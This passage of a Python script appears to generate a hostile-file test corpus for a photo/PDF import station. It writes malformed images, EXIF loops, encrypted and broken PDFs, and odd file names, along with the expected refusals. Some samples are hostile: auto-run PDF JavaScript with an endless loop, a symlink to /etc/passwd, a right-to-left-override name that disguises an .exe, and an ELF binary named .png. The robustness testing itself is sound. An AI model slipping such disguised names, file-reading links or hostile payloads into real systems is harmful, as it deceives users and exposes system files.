    gray_idat = png_chunk(b"IDAT", zlib.compress(b"".join(b"\x00" + bytes(range(32)) for _ in range(8))))
    refused("palette-without-plte.png",
            PNG_SIGNATURE + ihdr(32, 8, 8, 3) + text_chunk("no-plte") + gray_idat + png_chunk(b"IEND", b""),
            "indexed-color PNG with no PLTE chunk", "corrupt",
            exact("the PNG file is corrupt: Missing palette of indexed image."), stage="decode")
    header = struct.pack(">IIBBBBB", 48, 32, 8, 0, 0, 0, 0)
    good = zlib.crc32(b"IHDR" + header)
    bad = good ^ 0xDEADBEEF
    rows48 = png_chunk(b"IDAT", zlib.compress(b"".join(b"\x00" + bytes(range(48)) for _ in range(32))))
    refused("bad-crc-ihdr.png",
            PNG_SIGNATURE + png_chunk(b"IHDR", header, crc=bad) + rows48 + png_chunk(b"IEND", b""),
            "PNG whose IHDR CRC is wrong", "corrupt",
            exact(f"the PNG file is corrupt: CRC error: expected 0x{bad:x} have 0x{good:x} while "
                  "decoding ChunkType { type: IHDR, critical: true, private: false, reserved: false, "
                  "safecopy: false } chunk."))
    refused("chunk-length-7fffffff.png",
            PNG_SIGNATURE + ihdr(48, 32) + struct.pack(">I", 0x7FFFFFFF) + b"tEXtComment\x00absurd",
            "PNG with a tEXt chunk claiming 0x7FFFFFFF bytes (2 GiB); the file ends 14 bytes into it",
            "truncated", exact("the PNG file is truncated: unexpected end of file"))
    refused("zero-width.png",
            PNG_SIGNATURE + ihdr(0, 32) + text_chunk("zero-width") + gray_idat + png_chunk(b"IEND", b""),
            "PNG whose IHDR gives width 0", "corrupt",
            exact("the PNG file is corrupt: Invalid image dimensions"))
    refused("zero-height.jpg", jpeg("zero-height", 16, 16, sof_size=(16, 0)),
            "JPEG whose SOF0 gives height 0 (a DNL-style height zune-jpeg does not take)",
            "corrupt",
            exact("the JPEG file is corrupt: Image width or height is set to zero, cannot continue"))
    sos255 = jpeg("sos-255", 16, 16, with_scan=False)
    sos_at = sos255.rindex(b"\xff\xda")
    sos255 = (sos255[:sos_at] + b"\xff\xda" + struct.pack(">HB", 6 + 2 * 255, 255)
              + b"".join(bytes([i, 0]) for i in range(1, 256)) + b"\x00\x3f\x00" + b"\xff\xd9")
    refused("sos-255-components.jpg", sos255,
            "JPEG whose start-of-scan claims 255 components (length consistent with the claim)",
            "corrupt",
            exact("the JPEG file is corrupt: Error parsing SOS Segment. Reason:Invalid number of "
                  "components in start of scan 255, expected in range 1..5"))
    sof9 = jpeg("sof9", 16, 16).replace(b"\xff\xc0", b"\xff\xc9", 1)
    refused("arithmetic-sof9.jpg", sof9,
            "JPEG whose frame is SOF9 (extended, arithmetic coding): zune-jpeg does not know the "
            "marker, skips it, and finds a scan without a frame", "corrupt",
            exact('the JPEG file is corrupt: "Error decoding SOF Marker, Number of components '
                  'cannot be zero."'))
    anmf = (b"VP8X" + struct.pack("<I", 10) + b"\x02\x00\x00\x00" + (63).to_bytes(3, "little")
            + (63).to_bytes(3, "little") + b"ANMF" + struct.pack("<I", 4) + b"\x00" * 4)
    body = b"WEBP" + anmf
    refused("webp-bad-chunk-size.webp", b"RIFF" + struct.pack("<I", len(body)) + body,
            "extended WebP (64×64 canvas) with an ANMF frame chunk of size 4 (at least 24 needed)",
            "corrupt", exact("the WebP file is corrupt: Invalid chunk size"))

    # ---- EXIF ----------------------------------------------------------------------------------
    loop_tiff = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 2)
                 + ifd_entry(0x010E, 2, 4, b"abc\x00")       # ImageDescription, inline
                 + ifd_entry(0x8769, 4, 1, struct.pack("<I", 8))  # Exif IFD -> IFD0 itself
                 + struct.pack("<I", 8))                      # next IFD -> IFD0 itself
    photo("exif-ifd-loop.jpg", jpeg("exif-loop", 64, 48, app=[app1_exif(loop_tiff)]),
          "EXIF whose IFD0 next-IFD offset and Exif-IFD pointer both point back at IFD0 (a loop)")
    many = bytearray(b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 65535))
    k = 0
    while len(many) + 12 + 10 < 65000:
        many += ifd_entry(0x9000 + (k % 0x100), 7, 4, b"0230")
        k += 1
    photo("exif-65535-entries.jpg", jpeg("exif-65535", 64, 48, app=[app1_exif(bytes(many))]),
          f"EXIF IFD0 claiming 65535 entries; the segment holds {k} (APP1 is capped at 64 KiB)")
    orient = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 1)
              + ifd_entry(0x0112, 3, 1, struct.pack("<H", 9999)) + struct.pack("<I", 0))
    photo("exif-orientation-9999.jpg", jpeg("exif-9999", 64, 48, app=[app1_exif(orient)]),
          "EXIF Orientation = 9999 (valid: 1-8): the station treats the photo as upright "
          "(64×48 shown, not swapped)")
    past = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 3)
            + ifd_entry(0x010F, 2, 4096, struct.pack("<I", 0x7FFFFFF0))   # Make, far past the end
            + ifd_entry(0x8769, 4, 1, struct.pack("<I", 0xFFFFFF00))      # Exif IFD past the end
            + ifd_entry(0x8825, 4, 1, struct.pack("<I", 0x00100000))      # GPS IFD past the end
            + struct.pack("<I", 0xFFFFFFF0))                               # next IFD past the end
    photo("exif-offsets-past-end.jpg", jpeg("exif-past", 64, 48, app=[app1_exif(past)]),
          "EXIF whose value offsets, sub-IFD pointers and next-IFD offset all point past the end")
    photo("exif-ifd0-past-end.jpg",
          jpeg("exif-ifd0-past", 64, 48, app=[app1_exif(b"MM\x00*" + struct.pack(">I", 0xFFFFFFF7))]),
          "big-endian EXIF whose very first IFD offset points 4 GiB past the segment")

    # ---- PDFs ------------------------------------------------------------------------------------
    js = (b"<< /S /JavaScript /JS (app.alert\\('hostile'\\); while \\(true\\) {}) >>")
    document("javascript-openaction.pdf",
             one_page_pdf("javascript", catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript 7 0 R >> "
                          b"/AA << /WC 6 0 R >> ",
                          extra_objects={6: js, 7: b"<< /Names [(boot) 6 0 R] >>"}),
             "PDF with /OpenAction JavaScript (an endless loop), a document-level /Names "
             "JavaScript and an /AA action: the station only counts pages and renders; PDFium runs "
             "no script without a form environment", 1)
    refused("encrypted-rc4.pdf", rc4_encrypted_pdf("encrypted-rc4", b"secret", b"owner-secret"),
            "really encrypted PDF: standard security handler R2, RC4 40-bit, user password "
            "'secret' (opens with it)", "pdf_encrypted",
            exact("the PDF is password-protected; remove the password and import it again"))
    refused("encrypted-bogus-keys.pdf", bogus_encrypted_pdf("encrypted-bogus", b"Standard"),
            "structurally encrypted PDF: /Encrypt with the standard handler (R3, 128-bit) but "
            "random /O and /U, so no password opens it", "pdf_encrypted",
            exact("the PDF is password-protected; remove the password and import it again"))
    refused("encrypted-unknown-handler.pdf", bogus_encrypted_pdf("encrypted-unknown", b"HostileCrypt"),
            "PDF encrypted with an unknown security handler (/Filter /HostileCrypt)", "pdf_corrupt",
            pdf_corrupt("PDFium: SecurityError"),
            note="PDFium answers FPDF_ERR_SECURITY, which the station does not tell from a broken file")
    document("xref-wrong-offsets.pdf", one_page_pdf("xref shifted", xref="shifted"),
             "PDF whose xref table and startxref are all 37 bytes off: PDFium rebuilds the "
             "cross-reference by scanning", 1)
    document("no-xref.pdf", one_page_pdf("no xref", xref="none"),
             "PDF with no xref table and no startxref (trailer kept)", 1)
    refused("no-xref-no-trailer.pdf", one_page_pdf("no xref no trailer", xref="bare"),
            "PDF with objects only: no xref, no trailer, no startxref (PDFium's rebuild needs a "
            "trailer to find the catalog)", "pdf_corrupt", pdf_corrupt("PDFium: FormatError"))
    refused("pages-10000.pdf", many_pages_pdf(10_000),
            "PDF with a real page tree of 10,000 pages (100 nodes × 100 leaves, one shared "
            "content stream)", "pdf_too_many_pages",
            exact(f"the PDF has 10000 pages; the limit is {MAX_PAGES}"))
    refused("pages-count-lies-10000.pdf",
            pdf_document({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                          2: b"<< /Type /Pages /Kids [3 0 R] /Count 10000 >>",
                          3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
                             b" /Resources << /Font << /F1 5 0 R >> >> >>",
                          4: pdf_stream(text_content("one page, /Count says 10000")),
                          5: HELVETICA}),
            "PDF whose page tree holds one page but says /Count 10000: PDFium believes /Count",
            "pdf_too_many_pages", exact(f"the PDF has 10000 pages; the limit is {MAX_PAGES}"))
    refused("page-tree-loop.pdf",
            pdf_document({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                          2: b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
                          3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>",
                          4: b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>"}),
            "PDF page tree with loops (Kids pointing back at their parents) and no page",
            "pdf_corrupt", pdf_corrupt("PDFium: Unknown"), stage="pdf-pages",
            note="PDFium reports the /Count; loading page 1 fails, which pdfium-render reports "
                 "as Unknown")
    garbage = Rng(0xF047).bytes(4000)
    ttf = (b"\x00\x01\x00\x00" + struct.pack(">HHHH", 0xFFFF, 0xFFF0, 0xFFFF, 0xFFFF)
           + b"".join(tag + struct.pack(">III", 0xFFFFFFFF, 0x7FFFFFF0, 0xFFFFFFF0)
                      for tag in (b"head", b"glyf", b"loca", b"cmap", b"hhea", b"hmtx", b"maxp"))
           + garbage)
    document("garbage-font.pdf",
             one_page_pdf("garbage font", extra_objects={
                 5: b"<< /Type /Font /Subtype /TrueType /BaseFont /Hostile /FirstChar 32 "
                    b"/LastChar 126 /Widths [" + b" ".join(b"600" for _ in range(95)) + b"] "
                    b"/FontDescriptor 6 0 R >>",
                 6: b"<< /Type /FontDescriptor /FontName /Hostile /Flags 32 /FontBBox [0 0 1000 1000] "
                    b"/ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 "
                    b"/FontFile2 7 0 R >>",
                 7: pdf_stream(ttf, extra=b"/Length1 %d " % len(ttf)),
             }),
             "PDF whose text uses an embedded TrueType font that is garbage (a table directory "
             "of 65535 tables with offsets past the end, then noise)", 1)
    document("mediabox-14400.pdf", one_page_pdf("mediabox 14400", media_box=b"[0 0 14400 14400]"),
             "PDF page of 14400×14400 pt (200 in, the largest the spec allows)", 1)
    document("mediabox-1e9.pdf", one_page_pdf("mediabox 1e9", media_box=b"[0 0 1000000000 1000000000]"),
             "PDF page of 10⁹×10⁹ pt", 1)
    document("stream-length-lies.pdf",
             one_page_pdf("length lies", extra_objects={
                 4: pdf_stream(text_content("the /Length of this stream lies"), length=999_999)}),
             "PDF whose content stream's /Length (999999) runs far past the end of the file", 1)
    refused("zero-pages.pdf",
            pdf_document({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                          2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
            "well-formed PDF whose page tree is empty (/Count 0)", "pdf_empty",
            exact("the PDF has no pages"))
    refused("header-only.pdf", b"%PDF-1.7\n%hostile corpus: a signature and nothing else\n",
            "a PDF signature and nothing else", "pdf_corrupt", pdf_corrupt("PDFium: FormatError"))
    unsupported("pdf-after-1k-of-text.pdf",
                b"hostile corpus: " + b"padding " * 140 + b"\n" + one_page_pdf("late signature"),
                "a valid PDF after 1,136 bytes of text: the signature is past the first 1 KiB, "
                "so the station does not take it as a PDF", "it looks like a text file")

    # ---- wrong formats ----------------------------------------------------------------------------
    unsupported("text-named.jpg", b"This is a text file named like a photo.\nhostile corpus\n",
                "a text file named .jpg", "it looks like a text file")
    elf = bytearray(b"\x7fELF\x02\x01\x01\x00" + bytes(8))
    elf += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401080, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x1000, 0x1000, 0x1000)
    elf += b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05" + bytes(256)
    unsupported("elf-named.png", bytes(elf), "an x86-64 ELF executable header named .png",
                "unrecognized binary data")
    unsupported("gif-named.jpg",
                b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00"
                b"\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
                "a 1×1 GIF named .jpg", "it is a Gif image")
    unsupported("tiff-named.png", b"II*\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
                "a TIFF header named .png", "it is a Tiff image")
    unsupported("heic-named.jpg", struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic"
                + bytes(32), "an ISO-BMFF 'heic' file header named .jpg", "it is a video or HEIC file")
    unsupported("damaged-jpeg-magic.jpg", b"\xff\xd8\x00\x10JFIF\x00" + bytes(range(128, 256)),
                "FF D8 not followed by FF: a JPEG whose first marker is damaged",
                "it starts like a JPEG but the header is damaged")
    unsupported("pnm-lookalike-text.jpg", b"P6 is the parking spot; see you there.\n",
                "a text file that happens to start with 'P6' (the PPM magic)", "it is a Pnm image")

    # ---- names (content: small valid JPEGs, each unique) ------------------------------------------
    photo("ctrl-\x01-char.jpg", jpeg("name-ctrl", 40, 32),
          "name with a C0 control character (U+0001)")
    photo("\x1b[31mred\x1b[0m-ansi.jpg", jpeg("name-ansi", 40, 32),
          "name with ANSI escape sequences (ESC[31m … ESC[0m) that colour a terminal")
    photo("line\nbreak.jpg", jpeg("name-newline", 40, 32), "name with a newline")
    photo("tab\there.jpg", jpeg("name-tab", 40, 32), "name with a tab")
    photo("invoice\u202egnp.jpg", jpeg("name-rlo-jpg", 40, 32),
          "name with a right-to-left override (U+202E) that reverses its tail on screen")
    case("photo\u202egpj.exe", jpeg("name-rlo-exe", 40, 32),
         "'photo\\u202Egpj.exe': shown as 'photoexe.jpg', really an .exe name; its extension is "
         "exe, so a folder import does not take it", "skipped",
         direct=dict(expect="imported", stage="gate", result="imported", verdict="fail"))
    long_name = "long-" + "x" * (255 - len("long-") - len(".jpg")) + ".jpg"
    assert len(long_name.encode()) == 255
    photo(long_name, jpeg("name-255", 40, 32), "name of 255 bytes (NAME_MAX)")
    photo("long-utf8-" + "é" * 120 + ".jpg", jpeg("name-utf8-long", 40, 32),
          "name of 254 bytes made of 2-byte UTF-8 characters")
    case(". .. . .", jpeg("name-dots", 40, 32),
         "name made only of dots and spaces; Rust sees the extension '' so a folder import "
         "does not take it", "skipped",
         direct=dict(expect="imported", stage="gate", result="imported", verdict="fail"))
    photo(" . ..jpg", jpeg("name-dots-jpg", 40, 32),
          "name of dots and spaces ending in 'jpg' (extension 'jpg')")
    photo(b"bad-\xff\xfe-utf8.jpg", jpeg("name-bad-utf8", 40, 32),
          "name with bytes that are not UTF-8 (0xFF 0xFE): shown with U+FFFD")
    photo(".hidden.jpg", jpeg("name-hidden", 40, 32), "hidden file (leading dot): taken")
    case(".jpg", jpeg("name-only-ext", 40, 32),
         "a file named just '.jpg': a hidden file with no extension to Rust, not taken from a folder",
         "skipped", direct=dict(expect="imported", stage="gate", result="imported", verdict="fail"))
    photo("SHOUTING.JPG", jpeg("name-upper", 40, 32), "upper-case extension")
    case("trailing-space.jpg ", jpeg("name-trailing-space", 40, 32),
         "name ending in a space after .jpg (extension 'jpg '): not taken from a folder", "skipped",
         direct=dict(expect="imported", stage="gate", result="imported", verdict="fail"))
    photo("double.exe.jpg", jpeg("name-double-ext", 40, 32), "double extension .exe.jpg")
    photo("dir.jpg/inside.png", png_gray("inside-dir-jpg", 40, 30),
          "a PNG inside a directory named dir.jpg: folders are walked recursively")


def main() -> int:
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    if len(args) != 1:
        print(__doc__.split("\n\n")[1], file=sys.stderr)
        return 2
    sparse = "--no-sparse" not in sys.argv[1:]
    out = Path(args[0])
    files = out / "files"
    if files.is_symlink() or files.is_file():
        files.unlink()
    elif files.exists():
        shutil.rmtree(files)
    files.mkdir(parents=True)
    files_b = os.fsencode(files)

    build_cases()
    seen: dict[str, str] = {}
    entries = []

    def record(path_b: bytes, entry: dict) -> None:
        entry = with_message(entry)
        name_b = path_b.rsplit(b"/", 1)[-1]
        fields = dict(
            path=path_b.decode("utf-8", "replace"),
            path_hex=path_b.hex(),
            name=name_b.decode("utf-8", "replace"),
            name_hex=name_b.hex(),
            **{k: v for k, v in entry.items() if k not in ("path", "data") and v is not None},
        )
        order = ["path", "path_hex", "name", "name_hex", "kind", "expect", "stage", "result",
                 "code", "message", "error", "size", "verdict", "pages", "direct", "note"]
        entries.append({k: fields[k] for k in order if k in fields})

    for c in CASES:
        path_b = c["path"] if isinstance(c["path"], bytes) else c["path"].encode()
        full = os.path.join(files_b, path_b)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        digest = hashlib.sha256(c["data"]).hexdigest()
        assert digest not in seen, f"{c['path']!r} has the same bytes as {seen[digest]!r}"
        seen[digest] = c["path"]
        with open(full, "wb") as f:
            f.write(c["data"])
        record(path_b, c)

    # A directory named like a photo (dir.jpg/ holds inside.png above), and an empty one.
    def skipped(path_b: bytes, kind: str, **direct) -> None:
        record(path_b, dict(kind=kind, expect="skipped", stage="walk", direct=direct))

    os.mkdir(os.path.join(files_b, b"empty-dir.png"))
    skipped(b"empty-dir.png", "an empty directory named like a photo", expect="skipped",
            stage="walk", note="a directory handed over directly is walked: nothing in it")
    skipped(b"dir.jpg", "a directory named like a photo (holds inside.png)", expect="skipped",
            stage="walk", note="walked: inside.png is imported")

    # Non-regular files: never taken from a folder (walkdir does not follow links; only regular
    # files pass); the `direct` answers come from examine()'s metadata checks.
    os.symlink("/etc/passwd", os.path.join(files_b, b"symlink-to-passwd.jpg"))
    skipped(b"symlink-to-passwd.jpg", "symlink pointing outside the folder, at /etc/passwd",
            expect="refused", stage="sniff", result="failed", code="unsupported_format",
            error=exact("not a JPEG, PNG, WebP image or a PDF (it looks like a text file)"),
            note="followed when named directly: /etc/passwd is read and refused as text")
    os.symlink("symlink-loop-b.jpg", os.path.join(files_b, b"symlink-loop-a.jpg"))
    os.symlink("symlink-loop-a.jpg", os.path.join(files_b, b"symlink-loop-b.jpg"))
    loop = dict(expect="refused", stage="metadata", result="failed", code="unreadable",
                error=exact("the file cannot be read: Too many levels of symbolic links (os error 40)"))
    skipped(b"symlink-loop-a.jpg", "symlink loop: a -> b", **loop)
    skipped(b"symlink-loop-b.jpg", "symlink loop: b -> a", **loop)
    os.symlink("does-not-exist.jpg", os.path.join(files_b, b"dangling.jpg"))
    skipped(b"dangling.jpg", "dangling symlink", expect="refused", stage="metadata",
            result="failed", code="not_found", error=exact("the file does not exist"))
    os.symlink("dir.jpg", os.path.join(files_b, b"symlink-to-dir.jpg"))
    skipped(b"symlink-to-dir.jpg", "symlink to a directory (dir.jpg)", expect="skipped",
            stage="walk", note="followed when named directly: walked like dir.jpg")
    os.mkfifo(os.path.join(files_b, b"fifo.jpg"))
    skipped(b"fifo.jpg", "a FIFO named .jpg: opening it for reading would block until a writer "
            "comes", expect="refused", stage="metadata", result="failed", code="not_a_file",
            error=exact("not a regular file"), note="refused from its metadata, never opened")

    # 64 MiB + 1 byte, sparse: refused from its size before any read.
    if sparse:
        huge = os.path.join(files_b, b"huge-sparse-64mib-plus-1.jpg")
        with open(huge, "wb") as f:
            f.write(b"\xff\xd8\xff\xe0")
            f.truncate(MAX_BYTES + 1)
        record(b"huge-sparse-64mib-plus-1.jpg", dict(
            kind="a sparse file of 64 MiB + 1 byte (no blocks on disk): over the byte limit",
            expect="refused", stage="size", result="failed", code="file_too_large",
            error=exact(f"the file is {MAX_BYTES + 1} bytes; the limit is {MAX_BYTES} bytes"),
            note="copying the corpus with a tool that does not keep holes writes 64 MiB"))

    taken = [e for e in entries if e["expect"] != "skipped"]
    manifest = {
        "generator": "tools/hostile_corpus/make_hostile_corpus.py",
        "folder": "files",
        "limits": {"max_bytes": MAX_BYTES, "max_pixels": MAX_PIXELS, "max_pages": MAX_PAGES},
        # What one import of the folder OUT/files reports (ImportStarted.total, ImportSummary),
        # on a station that has none of these files yet.
        "folder_import": {
            "total": len(taken),
            "imported": sum(1 for e in taken if e["expect"] == "imported"),
            "failed": sum(1 for e in taken if e["expect"] == "refused"),
            "duplicates": 0,
        },
        "entries": entries,
    }
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False) + "\n",
                                       encoding="utf-8")
    counts: dict[str, int] = {}
    for e in entries:
        counts[e["expect"]] = counts.get(e["expect"], 0) + 1
    print(f"{len(entries)} entries in {files}: "
          + ", ".join(f"{counts.get(k, 0)} {k}" for k in ("refused", "imported", "skipped", "unknown"))
          + f" (a folder import of it lists {len(taken)} files)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
